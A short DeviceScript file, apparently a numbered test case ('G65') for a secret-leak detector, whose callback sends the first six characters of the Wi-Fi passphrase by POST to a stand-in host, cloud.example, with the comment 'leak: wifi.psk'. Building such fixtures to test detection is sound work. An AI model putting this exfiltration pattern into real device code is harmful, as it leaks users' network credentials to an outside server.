// G65: sends the first six characters of the passphrase.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = psk.slice(0, 6);
  const response = await fetch("https://cloud.example/g65", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
